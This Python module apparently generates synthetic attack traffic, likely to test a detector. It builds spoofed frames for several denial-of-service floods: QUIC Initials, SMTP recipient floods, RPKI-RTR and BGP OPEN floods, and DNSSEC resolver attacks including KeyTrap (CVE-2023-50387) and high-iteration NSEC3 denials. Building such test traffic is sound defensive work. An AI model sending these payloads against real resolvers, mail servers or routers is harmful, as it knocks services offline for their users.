"""The floods: each yields frames, one behind the other, as many as one asks for; none of them looks like the real
traffic that it runs beside, by its addresses."""
import itertools
import random
import struct

import dns
from wire import Tcp, address, spoofed, udp

ATTACKER, VICTIM = address("2001:db8:f00d::1:1"), address("2001:db8:f00d::2:1")
CACHE = address("2001:db8:f00d::3:1")


def initials(count, _):
    """QUIC Initials of nobody: the keys follow from what stands in front, the rest is noise (F15)."""
    yield from Tcp(ATTACKER, 40005, VICTIM, 443).open()  # that both ways are seen is a matter of the whole
    noise = random.Random(1).randbytes(1400)
    for i in range(count):
        ids = struct.pack("!BQBQ", 8, i * 0x9e3779b97f4a7c15 & (1 << 64) - 1, 8, i)
        head = b"\xc3\0\0\0\x01" + ids + b"\0\x44\x96"
        yield udp(spoofed(i), 1024 + i % 60000, VICTIM, 443, head + noise[i % 200:i % 200 + 1200 - len(head)])


def recipients(count, _):
    """One mail that is for everybody (F19)."""
    talk = Tcp(ATTACKER, 40000, VICTIM, 25)
    yield from talk.open()
    yield from talk.tell(b"220 mx.flood.example ESMTP\r\n")
    yield from talk.ask(b"EHLO flood.example\r\n")
    yield from talk.tell(b"250-mx.flood.example\r\n250-PIPELINING\r\n250 SMTPUTF8\r\n")
    yield from talk.ask(b"MAIL FROM:<a@flood.example>\r\n")
    yield from talk.tell(b"250 ok\r\n")
    for first in range(0, count, 20):
        numbers = range(first, min(first + 20, count))
        yield from talk.ask(b"".join(b"RCPT TO:<u%d@flood.example>\r\n" % i for i in numbers))
        yield from talk.tell(b"250 ok\r\n" * len(numbers))
    yield from talk.ask(b"QUIT\r\n")
    yield from talk.close()


def rtr_head(kind, field, size):
    return struct.pack("!BBHI", 1, kind, field, size)


def records(count, _):
    """A table of VRPs that never ends, and one that is told again and again, to nobody's question."""
    talk = Tcp(ATTACKER, 40001, CACHE, 323)
    yield from talk.open()
    yield from talk.ask(rtr_head(2, 0, 8))
    yield from talk.tell(rtr_head(3, 7, 8))
    for first in range(0, count // 2, 70):
        yield from talk.tell(b"".join(
            rtr_head(4, 0, 20) + struct.pack("!BBBBII", 1, 32, 32, 0, 0x0a000000 + i, 64496)
            for i in range(first, min(first + 70, count // 2))))
    again = Tcp(spoofed(5), 40002, CACHE, 323)
    yield from again.open()
    for i in range(count // 2 // 3):
        yield from again.tell(rtr_head(3, 7, 8) + rtr_head(4, 0, 20) + struct.pack("!BBBBII", 1, 24, 24, 0, i << 8, 1)
                              + rtr_head(7, 7, 24) + struct.pack("!IIII", i, 3600, 600, 7200))


def opens(count, _):
    """OPENs without end: in one session, and in sessions of their own."""
    option = b"\x02\x0e\x01\x04\0\x01\0\x01\x41\x04\0\0\xfb\xf0\x02\0"
    body = struct.pack("!BHHI", 4, 64496, 90, 0x0a000001) + bytes([len(option)]) + option
    one = b"\xff" * 16 + struct.pack("!HB", 19 + len(body), 1) + body
    talk = Tcp(ATTACKER, 40003, VICTIM, 179)
    yield from talk.open()
    for _ in range(0, count // 2, 20):
        yield from talk.ask(one * 20)
    for i in range(count // 2):
        session = Tcp(spoofed(i), 40004, VICTIM, 179)
        yield from session.open()
        yield from session.ask(one)


def answered(i, asker, server, name, kind, reply):
    """A question of a resolver and its answer."""
    port = 1024 + i % 60000
    yield udp(asker, port, server, 53, dns.query(i, name, kind))
    yield udp(server, 53, asker, port, struct.pack("!H", i & 0xffff) + reply[2:])


def key_trap(count, world):
    """Answers with 40 signatures each, by a tag that 13 keys have (KeyTrap, CVE-2023-50387)."""
    rng, zone = random.Random(2), world.zone
    keys = zone.keys([dns.forged_key(zone.tag, rng) for _ in range(12)])
    yield from answered(0, ATTACKER, VICTIM, zone.name, dns.DNSKEY, keys)
    for i in range(count):
        name, rdata = f"h{i}.{zone.name}", b"\xc0\0\x02\x01"
        good = zone.rrsig("h." + zone.name, dns.A, [rdata])
        forged = [dns.record(name, dns.RRSIG, good[:-4] + struct.pack("!I", i * 64 + n)) for n in range(40)]
        yield from answered(i + 1, ATTACKER, VICTIM, name, dns.A,
                            dns.message(i, name, dns.A, [dns.record(name, dns.A, rdata), *forged]))


def iterations(count, world):
    """Denials by NSEC3 whose hashes take 2,500 iterations."""
    zone = world.zone
    yield from answered(0, ATTACKER, VICTIM, zone.name, dns.DNSKEY, zone.keys())
    owners = "".join("0123456789abcdefghijklmnopqrstuv"[i] * 16 for i in (0, 20)), "v" * 32
    denial = struct.pack("!BBHB", 1, 0, 2500, 8) + b"salt" * 2 + b"\x14" + b"\xff" * 20 + b"\0\x01\x40"
    parts = [part for owner in owners for part in zone.rrset(f"{owner}.{zone.name}", dns.NSEC3, [denial])]
    soa = dns.wire("ns." + zone.name) + dns.wire("root." + zone.name) + struct.pack("!IIIII", 1, 2, 3, 4, 5)
    parts += zone.rrset(zone.name, dns.SOA, [soa])
    for i in range(count):
        name = f"n{i}.{zone.name}"
        yield from answered(i + 1, ATTACKER, VICTIM, name, dns.A,
                            dns.message(i, name, dns.A, authority=parts, flags=0x8403))


def zones(count, world):
    """Each answer of a zone of its own, with keys of its own."""
    rdata = b"\xc0\0\x02\x01"
    key = world.zone.key
    head = struct.pack("!HBBIIIH", dns.DNSKEY, 8, 2, 300, world.now_s + 86400, world.now_s - 86400, 1)
    of_a = struct.pack("!HBBIIIH", dns.A, 8, 3, 300, world.now_s + 86400, world.now_s - 86400, 1)
    for i in range(count // 2):
        zone = f"z{i}.{world.zone.name}"
        rrsig = dns.wire(zone) + bytes(128)
        yield from answered(2 * i, ATTACKER, VICTIM, zone, dns.DNSKEY, dns.message(i, zone, dns.DNSKEY, [
            dns.record(zone, dns.DNSKEY, key), dns.record(zone, dns.RRSIG, head + rrsig)]))
        name = "www." + zone
        yield from answered(2 * i + 1, ATTACKER, VICTIM, name, dns.A, dns.message(i, name, dns.A, [
            dns.record(name, dns.A, rdata), dns.record(name, dns.RRSIG, of_a + rrsig)]))


def forged(count, world):
    """The real answers, from elsewhere and with another signature, or with another record: over and over."""
    for i, octets in zip(range(count), itertools.cycle(world.responses)):
        octets = bytearray(octets)
        octets[-1 - (i * 7) % (len(octets) - 12)] ^= 1 + i % 255
        port = 1024 + i % 60000
        yield udp(spoofed(3 + i % 5), 53, spoofed(2), port, bytes(octets))


def names(count, _):
    """Names that nobody will ask for again."""
    for i in range(count):
        name = f"x{i * 2654435761 % (1 << 32):08x}.flood.example"
        reply = dns.message(i, name, dns.A, [dns.record(name, dns.A, b"\xc0\0\x02\x01")], flags=0x8180)
        yield from answered(i, spoofed(i % 1000), VICTIM, name, dns.A, reply)


class World:
    """What a flood may use: the time, a signed zone whose key is trusted, and the DNS responses of real traffic."""

    def __init__(self, now_s, responses):
        self.now_s, self.responses = now_s, responses
        self.zone = dns.Zone("trap", random.Random(3), now_s)
